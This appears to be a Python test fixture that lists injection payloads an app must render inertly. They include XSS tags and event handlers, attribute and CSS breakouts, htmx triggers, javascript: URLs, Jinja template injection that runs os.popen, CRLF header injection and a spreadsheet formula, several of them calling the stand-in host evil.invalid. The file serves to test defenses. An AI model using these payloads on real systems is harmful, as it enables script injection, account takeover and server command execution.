"""What somebody might print into a fact sheet, or type, to take a desk over.

Each would call `alert`, ask `evil.invalid`, put something on the page that carries the mark `pwned`, or be
computed by a template. Shown as text none of them does anything.
"""

from __future__ import annotations

MARK = "pwned"
HOST = "evil.invalid"  # a name that never resolves

ELEMENTS = (
    "<script>alert('pwned')</script>",
    "<ScRiPt>alert`pwned`</sCrIpT>",
    "<script src=//evil.invalid/a.js></script>",
    "<script>alert('pwned')//",
    "<scr<script>ipt>alert('pwned')</scr</script>ipt>",
    "</script><script>alert('pwned')</script>",
    "<img src=x onerror=alert('pwned')>",
    "<img/src='x'/onerror='alert(1)'id=pwned>",
    "<img src=//evil.invalid/a.png id=pwned>",
    "<svg onload=alert('pwned')>",
    "<svg><script>alert('pwned')</script></svg>",
    "<svg><animate onbegin=alert('pwned') attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert('pwned')><text y=9>pwned</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert('pwned')></style></mtext></math>",
    "<body onload=alert('pwned')>",
    "<iframe src=javascript:alert('pwned') id=pwned></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>' id=pwned></iframe>",
    "<object data=//evil.invalid/a.swf id=pwned></object>",
    "<embed src=//evil.invalid/a.swf id=pwned>",
    "<link rel=stylesheet href=//evil.invalid/a.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href=http://evil.invalid/>",
    "<form action=http://evil.invalid/ id=pwned><button>Accept</button></form>",
    "<input autofocus onfocus=alert('pwned') id=pwned>",
    "<details open ontoggle=alert('pwned') id=pwned>",
    "<video src=//evil.invalid/a.mp4 onerror=alert('pwned') id=pwned></video>",
    "<marquee onstart=alert('pwned') id=pwned>pwned</marquee>",
    "<plaintext id=pwned>",
    "</main></body></html><b id=pwned>",
    "<template id=pwned><script>alert('pwned')</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('pwned')>\">",
    "<textarea id=pwned></textarea><img src=x onerror=alert('pwned')>",
    "</textarea><img src=x onerror=alert('pwned')>",
    "</title><img src=x onerror=alert('pwned')>",
    "</option></select><img src=x onerror=alert('pwned')>",
    "<!--><img src=x onerror=alert('pwned')>-->",
    "<![CDATA[<img src=x onerror=alert('pwned')>]]>",
)
ATTRIBUTES = (
    "\" autofocus onfocus=alert('pwned') x=\"",
    "' autofocus onfocus=alert(\"pwned\") x='",
    '"><img src=x onerror=alert(1) id=pwned>',
    "'><img src=x onerror=alert(1) id=pwned>",
    "` onmouseover=alert('pwned') `",
    '" style="background:url(//evil.invalid/a.png)" id="pwned',
    '" hx-get="/queue" hx-trigger="load" id="pwned',
    '" accesskey="x" onclick="alert(1)" id="pwned',
)
STYLES = (
    "</style><style>*{display:none}</style>",
    "<style>@import '//evil.invalid/a.css';</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.invalid/a)' id=pwned>",
    "red;}body{background:url(//evil.invalid/a.png)}",
)
REQUESTS = (
    "<div hx-get=http://evil.invalid/ hx-trigger=load id=pwned></div>",
    "<div hx-get=/queue hx-trigger=load hx-target=body id=pwned></div>",
    "<div hx-on:load=alert('pwned') hx-on--load=alert('pwned') id=pwned></div>",
    "<div data-hx-post=/logout data-hx-trigger=load id=pwned></div>",
    "<a href=http://evil.invalid/ ping=http://evil.invalid/ id=pwned>Accept</a>",
)
ADDRESSES = (
    "javascript:alert('pwned')",
    "java\tscript:alert('pwned')",
    "JaVaScRiPt://evil.invalid/%0aalert('pwned')",
    "data:text/html,<script>alert('pwned')</script>",
    "//evil.invalid/queue",
    "/\\evil.invalid/queue",
    "http://evil.invalid/queue",
)
TEMPLATES = (
    "{{ 7*191 }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for one in ().__class__.__base__.__subclasses__() %}{{ one }}{% endfor %}",
    "{# comment #}${7*191}#{7*191}<%= 7*191 %>",
)
ENCODED = (
    "&lt;script&gt;alert('pwned')&lt;/script&gt;",
    "&#x3c;img src=x onerror=alert('pwned')&#x3e;",
    "%3Cscript%3Ealert('pwned')%3C/script%3E",
    "+ADw-script+AD4-alert('pwned')+ADw-/script+AD4-",
    "\\u003cscript\\u003ealert('pwned')\\u003c/script\\u003e",
    '=HYPERLINK("http://evil.invalid/","Accept")',
    "x\r\nSet-Cookie: pwned=1\r\n\r\n<script>alert('pwned')</script>",
)
PAYLOADS = ELEMENTS + ATTRIBUTES + STYLES + REQUESTS + ADDRESSES + TEMPLATES + ENCODED
COMPUTED = "1337"  # what a template would make of 7*191
